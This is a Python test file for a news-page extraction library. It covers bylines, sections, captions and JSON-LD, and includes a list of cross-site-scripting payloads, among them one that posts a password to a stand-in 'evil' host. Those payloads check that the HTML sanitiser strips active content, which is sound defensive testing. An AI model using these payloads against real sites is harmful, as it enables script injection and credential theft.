"""The rules a page is read by, one at a time."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemera import markup
from hemera.extract import authors, jsonld, layouts, lines, pictures, sanitise, sections, titles, vocabulary
from hemera.types import Block, BlockKind

BASE = "https://phare.example/ville/a"


@pytest.mark.parametrize(
    ("names", "people", "agency"),
    [
        (["Zohra Benmalouk"], ("Zohra Benmalouk",), ""),
        (["Par Zohra Benmalouk et Idris Tamarzi"], ("Zohra Benmalouk", "Idris Tamarzi"), ""),
        (["By Lina Haddouch and Farid Louzani, Marsa Ennour"], ("Lina Haddouch", "Farid Louzani", "Marsa Ennour"), ""),
        (["Propos recueillis par Selma Oulhadj"], ("Selma Oulhadj",), ""),
        (["بقلم: مليكة الزيتوني وسفيان بن رياح"], ("مليكة الزيتوني", "سفيان بن رياح"), ""),
        (["كتبت مليكة الزيتوني"], ("مليكة الزيتوني",), ""),
        (["وليد الصفراني"], ("وليد الصفراني",), ""),  # a name that begins with "and"
        (["AFP"], (), "AFP"),
        (["Agence France-Presse"], (), "AFP"),
        (["أ ف ب"], (), "AFP"),
        (["أ.ف.ب"], (), "AFP"),
        (["و م ع"], (), "MAP"),
        (["وات"], (), "TAP"),
        (["رويترز"], (), "Reuters"),
        (["وكالة خليج اللوز للأنباء"], (), "و.خ.ل"),
        (["و.خ.ل"], (), "و.خ.ل"),
        (["Zohra Benmalouk avec AFP"], ("Zohra Benmalouk",), "AFP"),
        (["Zohra Benmalouk", "Zohra  BENMALOUK"], ("Zohra Benmalouk",), ""),
        (["La rédaction"], (), ""),
        (["هيئة التحرير"], (), ""),
        (["Le Phare du Golfe"], (), ""),
        (["https://social.example/zohra"], (), ""),
        (["zohra@phare.example"], (), ""),
        (["Zohra Benmalouk | Publié le 12/06/2020"], ("Zohra Benmalouk",), ""),
        (["", " - ", "Par"], (), ""),
    ],
)
def test_who_signed(names: list[str], people: tuple[str, ...], agency: str) -> None:
    assert authors.read(names, ("Le Phare du Golfe",)) == (people, agency)


@pytest.mark.parametrize(
    ("printed", "section"),
    [
        ("Économie", "economy"),
        ("اقتصاد", "economy"),
        ("الاقتصاد", "economy"),
        ("Sports", "sports"),
        ("رياضة", "sports"),
        ("ثقافة وفنون", "culture"),
        ("Météo", "environment"),
        ("FAITS DIVERS", "society"),
        ("Culture / Livres", "culture"),
        ("آراء", "opinion"),
        ("World", "world"),
        ("science", "science"),
        ("الشأن العام", "politics"),
        ("Rubrique à brac", ""),
        ("", ""),
    ],
)
def test_sections_by_their_printed_names(printed: str, section: str) -> None:
    assert sections.known_section(printed) == section


def test_the_archive_has_nine_sections() -> None:
    assert sections.SECTIONS == (
        "politics",
        "economy",
        "society",
        "world",
        "culture",
        "sports",
        "science",
        "environment",
        "opinion",
    )


@pytest.mark.parametrize(
    "line",
    [
        "Lire aussi : Le bac ne passera plus",
        "À lire également",
        "LIRE AUSSI - Les taxis au repos",
        "Inscrivez-vous à notre lettre d’information quotidienne.",
        "Partager sur les réseaux",
        "اقرأ أيضا: موسم الزيتون",
        "اقرأ أيضاً | موسم الزيتون",
        "إقرأ أيضا",
        "تابعونا على منصاتنا",
        "Read more: the ferry sails",
        "Sign up for our newsletter",
        "5 min read",
        "© Le Phare du Golfe",
        "جميع الحقوق محفوظة لجريدة البوصلة",
        "Publicité",
    ],
)
def test_promotions(line: str) -> None:
    assert lines.is_promotion(line)


@pytest.mark.parametrize(
    "line",
    [
        "Lire aussi longtemps que possible, voilà le secret de la doyenne du golfe. " + "Elle avoue trois romans par semaine. " * 6,
        "Publicité mensongère : le tribunal a tranché",
        "Les passagers ont pu lire aussi les poèmes affichés.",
        "اشتركت المدارس الأربع في الحفل",
        "",
    ],
)
def test_what_only_looks_like_a_promotion(line: str) -> None:
    assert not lines.is_promotion(line)


def test_noise_between_paragraphs() -> None:
    blocks = [
        Block(BlockKind.PARAGRAPH, "Un titre déjà imprimé"),
        Block(BlockKind.PARAGRAPH, "Un vrai paragraphe, avec assez de mots pour compter."),
        Block(BlockKind.PARAGRAPH, "Publié le"),
        Block(BlockKind.PARAGRAPH, "Un vrai paragraphe, avec assez de mots pour compter."),
        Block(BlockKind.PARAGRAPH, "Lire aussi : autre chose"),
        Block(BlockKind.SUBHEAD, "À suivre"),
    ]
    assert lines.without_noise(blocks, ["Un titre déjà imprimé"]) == (blocks[1],)


@pytest.mark.parametrize(
    ("printed", "caption", "credit"),
    [
        ("Le pont, samedi. © Zohra Benmalouk", "Le pont, samedi.", "Zohra Benmalouk"),
        ("Le pont, samedi. (Photo : Z. Benmalouk)", "Le pont, samedi.", "Z. Benmalouk"),
        ("Le pont, samedi. Photo Zohra Benmalouk", "Le pont, samedi.", "Zohra Benmalouk"),
        ("The bridge. Photograph: Faris Pellowe", "The bridge.", "Faris Pellowe"),
        ("بلبل على الجسر (تصوير: كنزة الرحالي)", "بلبل على الجسر", "كنزة الرحالي"),
        ("Le pont vu du quai", "Le pont vu du quai", ""),
        ("Une photo du pont prise du quai", "Une photo du pont prise du quai", ""),
    ],
)
def test_captions_and_credits(printed: str, caption: str, credit: str) -> None:
    assert pictures.split_credit(printed) == (caption, credit)


@pytest.mark.parametrize(("one", "other", "share"), [("Le pont", "le PONT !", 1.0), ("Le pont", "La mer", 0.0), ("", "x", 0.0)])
def test_alike_titles(one: str, other: str, share: float) -> None:
    assert titles.alike(one, other) == share


@pytest.mark.parametrize(
    "script",
    [
        '{"@type":"NewsArticle","headline":"x"}',
        ' // <![CDATA[\n{"@type":"NewsArticle","headline":"x"}\n// ]]> ',
        '<!-- {"@type":"NewsArticle","headline":"x"} -->',
        '{"@type":"NewsArticle","headline":"x",}',
        '{"@type":["NewsArticle","Article"],"headline":"x"};',
        "{&quot;@type&quot;:&quot;NewsArticle&quot;,&quot;headline&quot;:&quot;x&quot;}",
        '[{"@type":"WebSite"},{"@graph":[{"@type":"https://schema.org/NewsArticle","headline":"x"}]}]',
        '{"@type":"NewsArticle","headline":"x","description":"a\nb\tc"}',
    ],
)
def test_json_ld_as_it_is_written(script: str) -> None:
    assert jsonld.article(jsonld.nodes([script]), BASE)["headline"] == "x"


@pytest.mark.parametrize(
    "script", ["", "{", "null", "3", '"x"', "[" * 200_000, '{"a":' * 50_000 + "1" + "}" * 50_000, '{"@type": 3}']
)
def test_json_ld_that_says_nothing(script: str) -> None:
    assert jsonld.article(jsonld.nodes([script]), BASE) == {}


def test_json_ld_is_bounded() -> None:
    assert jsonld.nodes(['{"@type":"A","x":"' + "y" * 1_000_000 + '"}']) == []
    assert len(jsonld.nodes(['{"@type":"A","x":"' + "y" * 900_000 + '"}'] * 8)) == 5


def test_the_article_of_several_is_this_pages() -> None:
    nodes = jsonld.nodes(
        [
            '{"@type":"NewsArticle","headline":"other","datePublished":"2020","url":"https://phare.example/b"}',
            '{"@type":"NewsArticle","headline":"this","mainEntityOfPage":{"@id":"http://phare.example/ville/a/"}}',
        ]
    )
    assert jsonld.article(nodes, BASE)["headline"] == "this"


@pytest.mark.parametrize(
    ("value", "false"),
    [(False, True), ("False", True), ("http://schema.org/False", True), (True, False), ("true", False), (None, False)],
)
def test_false_as_publishers_write_it(value: object, false: bool) -> None:
    assert jsonld.false(value) is false


VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='//evil'><input name=password></form>",
    "<p style='position:fixed;inset:0;background:url(//evil/t.gif)'>x</p>",
    "<img srcset='//evil/a 1x' src='http://a.example/b.jpg'>",
    "<base href='//evil/'>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<link rel=stylesheet href=//evil>",
    "<object data='x.swf'></object>",
    "<p id='login' class='x' name='cookie'>clobber</p>",
    "<details ontoggle=alert(1) open>",
    "<<script>alert(1)//<</script>",
    "<table background='javascript:alert(1)'><tr><td>a",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<style>@import '//evil';</style>",
    "<p lang='\"><script>alert(1)</script>'>a</p>",
    "<!--><script>alert(1)</script>-->",
    "<p>" * 20_000,
]


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector[:40])
def test_90_nothing_active_is_kept(vector: str) -> None:
    cleaned = sanitise.clean(vector, BASE).lower().replace("&lt;", "")
    for trace in (
        "<script",
        "onerror",
        "onload",
        "ontoggle",
        "javascript:",
        "data:",
        "<svg",
        "<math",
        "<iframe",
        "<form",
        "style=",
        "srcset",
        "id=",
        "class=",
    ):
        assert trace not in cleaned or "lang=" in cleaned


def test_91_links_and_pictures_are_absolute() -> None:
    cleaned = sanitise.clean("<a href='//other.example/x'>a</a><a href='../b'>b</a><img src='i.jpg'>", BASE)
    assert 'href="https://other.example/x"' in cleaned
    assert 'href="https://phare.example/b"' in cleaned
    assert 'src="https://phare.example/ville/i.jpg"' in cleaned


def test_92_user_names_in_links_are_dropped() -> None:
    assert "evil" not in sanitise.clean("<a href='http://good.example@evil.example/'>x</a>", BASE)


def test_blocks_of_a_feeds_html() -> None:
    html = """texte nu<h3>Un titre</h3><p>un <b>gras</b> et<br>deux</p><ul><li>a</li></ul><blockquote><p>q</p></blockquote>
    <p><b>Intertitre</b></p><script>x</script>"""
    assert [(block.kind.value, block.text) for block in sanitise.blocks_of_html(html, BASE)] == [
        ("paragraph", "texte nu"),
        ("subhead", "Un titre"),
        ("paragraph", "un gras et"),
        ("paragraph", "deux"),
        ("item", "a"),
        ("quote", "q"),
        ("subhead", "Intertitre"),
    ]


@given(st.text(alphabet="<>/abp \"'=&;!-", max_size=80))
def test_any_markup_gives_harmless_blocks(html: str) -> None:
    assert all("\n" not in block.text for block in sanitise.blocks_of_html(html, BASE))


PHRASES = vocabulary.phrases("il vous reste # | abonnez-vous pour lire | déjà abonné | to read the full | لمتابعة القراءة")


@pytest.mark.parametrize(
    ("text", "there"),
    [
        ("il vous reste 72 % de cet article", True),
        ("abonnez-vous pour lire la suite", True),
        ("abonnez-vous pour-lire", True),
        ("l'eau\nto read-the full text", True),
        ("لمتابعه القراءه اشترك", True),
        ("il reste 72 % de l'eau, a lire en entier", False),
        ("abonnez vous pour lire", False),
        ("", False),
    ],
)
def test_phrases_that_may_be_in_a_text(text: str, there: bool) -> None:
    assert vocabulary.Phrases(PHRASES).may_be_in(text) is there


@given(st.lists(st.sampled_from([*PHRASES, "il vous reste 7", "-", " ", "\n", "abonne", "full", "x"]), max_size=6))
def test_no_phrase_is_missed(parts: list[str]) -> None:
    pattern = re.compile(vocabulary.pattern("|".join(PHRASES)))
    text = "".join(parts)
    assert vocabulary.Phrases(PHRASES).may_be_in(text) or not pattern.search(text)


MARKS = ('body[class~="single"]', 'body[class*="post"]', 'body[id="page"]', 'div[class~="single"]', 'body[class~="a b"]')


@given(st.text("single post\t-page", max_size=20), st.sampled_from(["page", "pages", "single"]), st.sampled_from(MARKS))
def test_a_mark_is_found_as_a_selector_finds_it(classes: str, name: str, mark: str) -> None:
    tree = markup.parsed(f'<body class="{classes}" id="{name}"><div class="single">x</div>')
    assert layouts.fit(tree, [mark]) == (tree.css_first(mark) is not None)
